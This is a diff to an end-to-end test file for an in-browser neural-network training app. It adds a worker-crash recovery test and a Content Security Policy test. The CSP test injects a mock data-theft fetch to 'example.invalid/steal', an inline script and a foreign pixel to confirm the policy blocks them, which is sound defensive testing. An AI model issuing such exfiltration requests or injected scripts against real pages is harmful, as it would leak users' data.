@@ -1,6 +1,8 @@
 """End-to-end: nothing lost. A tab's run survives a reload (and a duplicated tab gets a copy of its
 own), and a divergence pauses the run, says why in numbers, and rolls back to the last good weights."""
+import html
 import json
+import re
 
 import pytest
 
@@ -128,3 +130,48 @@ def test_divergence_pauses_explains_and_rolls_back(opened):
     w.wait_state('training', 10)
     wait_until(lambda: (w.number('examples') or 0) > 7000, 60, 'training on after the rollback')
     assert box.is_hidden() and (w.number('loss') or 9) < 1.0, w.stat('loss')
+
+
+def test_a_killed_worker_is_noticed_and_the_run_restarts_from_its_autosave(opened):
+    w = opened()
+    wait_until(lambda: (saved_examples(w, f'tab {tab_id(w)}') or 0) > 500, 60, 'a first autosave')
+    w.page.evaluate('window.liveCnnWorker.worker.terminate()')        # as the browser does to a worker out of memory
+    saved = saved_examples(w, f'tab {tab_id(w)}')
+    w.wait_state('error', 40)
+    assert 'stopped answering' in w.page.text_content('#error-message')
+    restart = w.page.locator('#error-restart')
+    restart.wait_for(state='visible', timeout=5000)
+    assert f'({saved:,} examples)' in restart.text_content()
+    w.page.click('[data-control="restart"]')
+    w.wait_state('training', BOOT_S)
+    assert 'continued the run saved at' in run_note(w) and f'({saved:,} examples)' in run_note(w)
+    wait_until(lambda: (w.number('examples') or 0) > saved, 20, 'training on from the autosave')
+
+
+def test_the_content_security_policy_lets_it_train_and_blocks_other_origins(opened, base):
+    import urllib.request
+    from buildkit.server import CSP
+    w = opened()                                        # the suite's server sends the policy: it trains under it
+    with urllib.request.urlopen(base) as r:
+        assert r.headers['Content-Security-Policy'] == CSP
+        page = r.read().decode()
+    meta = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', page)
+    assert meta and html.unescape(meta.group(1)) == CSP
+    assert "'unsafe-eval'" not in CSP and "'unsafe-inline'" not in CSP and 'wasm-unsafe-eval' in CSP
+    # An injected request to another origin, and an injected inline script, are refused.
+    blocked = w.page.evaluate('''async () => {
+        const seen = [];
+        document.addEventListener('securitypolicyviolation', (e) => seen.push([e.violatedDirective, e.blockedURI]));
+        let fetched = 'sent';
+        try { await fetch('http://example.invalid/steal?x=1'); } catch (err) { fetched = 'refused'; }
+        const s = document.createElement('script'); s.textContent = 'window.injected = 1'; document.body.append(s);
+        const img = new Image(); img.src = 'http://example.invalid/pixel.png'; document.body.append(img);
+        await new Promise((r) => setTimeout(r, 500));
+        return { fetched, injected: window.injected === 1, seen };
+    }''')
+    assert blocked['fetched'] == 'refused' and not blocked['injected'], blocked
+    directives = {d for d, _ in blocked['seen']}
+    assert {'connect-src', 'script-src-elem', 'img-src'} <= directives, blocked
+    w.errors[:] = [e for e in w.errors if 'Content Security Policy' not in e and 'Failed to fetch' not in e]
+    w.foreign[:] = [u for u in w.foreign if 'example.invalid' not in u]     # refused before they left
+    wait_until(lambda: (w.number('examples') or 0) > 200, 30, 'training all the while')
